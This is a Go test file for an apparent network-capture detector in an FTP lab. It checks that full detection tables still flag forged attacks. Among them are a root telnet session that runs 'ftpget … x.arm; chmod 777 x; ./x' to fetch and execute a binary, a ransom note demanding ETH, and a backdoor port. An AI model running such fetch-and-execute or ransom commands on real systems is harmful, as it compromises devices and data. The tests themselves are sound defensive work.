// The tables of a check are bounded. A capture that fills one is not simply normal.

package baseline

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"ftplab/lab/analysis/baseline/evidence"
	"ftplab/lab/analysis/baseline/internal/bounded"
	"ftplab/lab/analysis/baseline/rules"
	"ftplab/lab/analysis/capture"
	"ftplab/lab/internal/forge"
)

// bound checks a forged capture against the rules, with other limits.
func bound(t *testing.T, play func(*forge.Capture), most func(bounded.Limit) int) *Assessment {
	t.Helper()
	f := forge.New()
	play(f)
	c, err := capture.Read(bytes.NewReader(f.PCAP()), capture.Options{NoHash: true})
	if err != nil {
		t.Fatal(err)
	}
	s := evidence.NewSessions(c)
	s.Ledger.Lower = most
	e, err := gatherOf(c, s)
	if err != nil {
		t.Fatal(err)
	}
	return check(t, e, nil)
}

// TestFullTables plays what is not normal once for each table that it needs, while this table is full: the verdict is
// not normal then, either.
func TestFullTables(t *testing.T) {
	if testing.Short() {
		t.Skip("plays each attack once more for each of the tables; run without -short")
	}
	plays := map[string]func(*forge.Capture){}
	for _, test := range attacks {
		plays[test.name] = test.play
	}
	for _, test := range toolAttacks {
		plays[test.name] = test.play
	}
	for _, test := range slices.Concat(behaviours, intruders, elsewhere, nearby, collected) {
		plays[test.name] = test.play
	}
	for name, test := range ruleTests {
		plays[name] = test.breaks
	}
	for name, play := range plays {
		limits := map[string]bool{}
		if want := bound(t, play, func(l bounded.Limit) int { limits[l.Of] = true; return l.Most }); want.Verdict != IsUnusual && want.Verdict != NotNormal {
			continue
		}
		for of := range limits {
			got := bound(t, play, func(l bounded.Limit) int {
				if l.Of == of {
					return 0
				}
				return l.Most
			})
			if got.Verdict == IsNormal {
				t.Errorf("%s, with a full table of %s: got %v", name, of, got)
			}
		}
	}
}

// TestFilledTables fills a table with what is normal, and then does what is not.
func TestFilledTables(t *testing.T) {
	quiet := session1("")
	for _, test := range []struct {
		of        string
		most      int
		want      Verdict // unusual if it is no ordinary work that fills the table
		fill, act func(*forge.Capture)
	}{
		{"addresses that were claimed or looked for by ARP", 8, IsUnusual, func(f *forge.Capture) {
			for i := range 9 {
				claim(f, byte(100+i), fmt.Sprintf("192.0.2.%d", 100+i))
			}
		}, func(f *forge.Capture) { claim(f, 66, aServer); claim(f, 66, aClient); quiet(f) }},
		{"pairs of hosts", 4, CannotJudge, func(f *forge.Capture) {
			for i := range 5 {
				dial(f, fmt.Sprintf("198.51.100.%d", 1+i), aServer+":21").Say(hello).Say("> CWD a\n< 250 ok").Say(bye).Peer.Close()
			}
		}, session1(numberedText(9, "> MKD %s\n< 550 no\n"))},
		{"senders of fragments and of long answers", 4, CannotJudge, func(f *forge.Capture) {
			for i := range 5 {
				f.UDP(fmt.Sprintf("198.51.100.%d:123", 1+i), "198.51.100.77:50000", make([]byte, 440))
			}
		}, crowded(600, time.Millisecond, longAnswer)},
		{"names about which hosts asked name servers", 4, CannotJudge, func(f *forge.Capture) {
			for i := range 5 {
				answeredAbout(fmt.Sprint("ns", i), 0)(f)
			}
		}, answered(40)},
		{"SYNs from a port that was in use before", 4, CannotJudge, func(f *forge.Capture) {
			for i := range 6 {
				fromOnePort(f, i).Say(bye).Peer.Close()
			}
		}, opensAgain(true)},
		{"connections that servers turned away", 4, IsUnusual, func(f *forge.Capture) {
			for range 5 {
				turnedAway(f)
				f.Pass(time.Hour)
			}
		}, holds(20, "", "421 Too many connections")},
		{"pairs of hosts", 4, CannotJudge, func(f *forge.Capture) {
			for i := range 5 {
				dial(f, fmt.Sprintf("198.51.100.%d", 1+i), aServer+":21").Say(hello).Say(bye).Peer.Close()
			}
		}, looksAt("203.0.113.66", "10.20.0.%d", 10, "a", "", false)},
		{"bytes of echo requests", 64, CannotJudge, func(f *forge.Capture) {
			echoes(f, aClient, aServer, strings.Repeat("x", 56), strings.Repeat("x", 56))
		}, func(f *forge.Capture) {
			quiet(f)
			for i := range 9 {
				echoes(f, aClient, "203.0.113.66", fmt.Sprint("SSH-2.0 ask ", i), fmt.Sprint("SSH-2.0 tell ", i))
			}
		}},
		{"bytes that came with SYNs", 16, CannotJudge, dataInSYN("USER ada\r\n"), func(f *forge.Capture) {
			f.Pass(time.Hour)
			dataInSYNFrom("198.51.100.9:4001", "\x17\x03noise")(f)
		}},
		{"probes", 4, IsUnusual, func(f *forge.Capture) { asks(f, 60, 5, true); quiet(f) }, func(f *forge.Capture) { asks(f, 160, 12, false) }},
	} {
		t.Run(test.of, func(t *testing.T) {
			most := func(l bounded.Limit) int {
				if l.Of == test.of {
					return test.most
				}
				return l.Most
			}
			if got := bound(t, test.act, func(l bounded.Limit) int { return l.Most }); got.Verdict == IsNormal || got.Verdict == CannotJudge {
				t.Errorf("with room: got %v", got)
			}
			got := bound(t, func(f *forge.Capture) { test.fill(f); test.act(f) }, most)
			if got.Verdict != test.want || !strings.Contains(got.Judged.String(), fmt.Sprintf("more %s than the %d that the check remembers", test.of, test.most)) {
				t.Errorf("got %v (%s)", got, got.Judged)
			}
			if got := bound(t, func(f *forge.Capture) { test.fill(f); quiet(f) }, func(l bounded.Limit) int { return l.Most }); got.Verdict != IsNormal {
				t.Errorf("what fills the table: got %v\nwant %s", got, IsNormal)
			}
		})
	}
}

// fromOnePort begins the i-th session of a client that uses one port for all of them.
func fromOnePort(f *forge.Capture, i int) *forge.End {
	f.Pass(5 * time.Minute)
	c, s := f.Pair(aClient+":4000", aServer+":21")
	c.Seq += uint32(i) * 50_000_000
	s.Seq += uint32(i) * 70_000_000
	c.Handshake()
	return c.Say(hello)
}

// TestLongDialogue has a session of which only the beginning is read.
func TestLongDialogue(t *testing.T) {
	got := forged(t, func(f *forge.Capture) {
		s := f.Control().Say(hello)
		for range 200 {
			s.Segment("P.", strings.Repeat("\r\n", 700))
		}
		s.Say("> DELE plan.doc\n< 250 gone").Say(bye).Peer.Close()
	})
	if full := got.Judged.Full; len(full) != 1 || full[0].Of != "lines of one dialogue" || got.Judged.Whole > 0 || got.Verdict == IsNormal {
		t.Errorf("got %v (%s)", got, got.Judged)
	}
}

// TestLateActs does what is not normal after so much else between the same two hosts that not all of it is remembered.
func TestLateActs(t *testing.T) {
	for _, test := range []struct {
		name, rule string
		play       func(*forge.Capture)
	}{
		{"data in the names of folders, after many names", "names-are-words", func(f *forge.Capture) {
			session1(numberedLines(300, "> RETR report%d.txt\n< 150 here\n< 226 done\n"))(f)
			session1(numberedText(100, "> MKD %s\n< 550 no\n"))(f)
		}},
		{"a SYN within a connection, after many connections from its port", "packets-come-one-way", func(f *forge.Capture) {
			for i := range 60 {
				fromOnePort(f, i).Say(bye).Peer.Close()
			}
			t := fromOnePort(f, 60)
			again := *t
			again.Seq += 300_000_000
			again.SegmentAt(0, "S", "")
			t.Peer.ACK()
			t.Say("> NOOP\n< 200 ok").Say(bye).Peer.Close()
		}},
		{"files that get an ending, after many with one of their own each", "no-known-exploits", func(f *forge.Capture) {
			session1(numberedLines(300, "> RNFR a%[1]d\n< 350 to?\n> RNTO a%[1]d.e%[1]d\n< 250 ok\n") + numberedLines(25, "> RNFR b%[1]d\n< 350 to?\n> RNTO b%[1]d.qqq\n< 250 ok\n"))(f)
		}},
		{"a folder that is emptied for a ransom, after many demands", "files-are-kept", func(f *forge.Capture) {
			for i := range 25 {
				moved(fmt.Sprintf("STOR LISEZ%d", i), opener, "Envoyez 2 ETH, puis: r@onionmail.org")(f)
			}
			for range 20 {
				ransomed(8, "DELE %s\n< 250 ok", "STOR LISEZ", "Envoyez 2 ETH, puis: r@onionmail.org")(f)
				f.Pass(time.Minute)
			}
		}},
		{"a forged RST, after many that mean nothing", "resets-are-final", func(f *forge.Capture) {
			t := f.Control().Say(hello)
			for i := range 100 {
				t.Peer.SegmentAt(-3_000_000+i%50*1000, "R", "")
			}
			t.Peer.RST()
			t.Say("> PWD\n< 257 \"/\"").Say(bye).Peer.Close()
		}},
		{"numbers that somebody tries, after many that exist", "names-are-known", func(f *forge.Capture) {
			session1(numberedLines(300, "> RETR spa%012x.xml\n< 150 here\n< 226 done\n"))(f)
			var b strings.Builder
			for i := range 280 {
				fmt.Fprintf(&b, "> RETR spa%012x.xml\n< 550 no\n", 300+i)
			}
			session1(b.String())(f)
		}},
		{"a back door, after many conversations", "no-third-ports", func(f *forge.Capture) {
			for range 12 {
				dial(f, aClient, aServer+":9000").Say("> open\n< sesame").Close()
			}
			f.Pass(time.Hour)
			t := f.Control().Say(hello)
			dial(f, aClient, aServer+":6200").Say("> open\n< sesame").Close()
			t.Say(bye).Peer.Close()
		}},
		{"an instruction, before many others", "files-are-no-orders", func(f *forge.Capture) {
			order := dial(f, "203.0.113.66", aClient+":23").Say("< login:\n> root\n< #\n> ftpget 192.0.2.21 x x.arm; chmod 777 x; ./x")
			for i := range 12 {
				order.Say(fmt.Sprintf("> ftpget 192.0.2.%d y y.arm; chmod 777 y; ./y", i))
			}
			order.Close()
			moves([2]string{"RETR x.arm", "\x7fELF"})(f)
		}},
		{"a server that takes the place of another, after many logins", "no-detours", func(f *forge.Capture) {
			for range 300 {
				f.Control().Say("< 220 hi\n> USER bob\n< 331 and?\n> PASS right\n< 230 in\n> QUIT\n< 221 bye").Peer.Close()
			}
			displaced("530 no", "FTP Service")(f)
		}},
	} {
		t.Run(test.name, func(t *testing.T) {
			got := forged(t, test.play)
			if !slices.ContainsFunc(got.Findings, func(f rules.Finding) bool { return f.Rule == test.rule && f.Severity != rules.Note }) {
				t.Errorf("got %v\nwant %s", got, test.rule)
			}
		})
	}
}
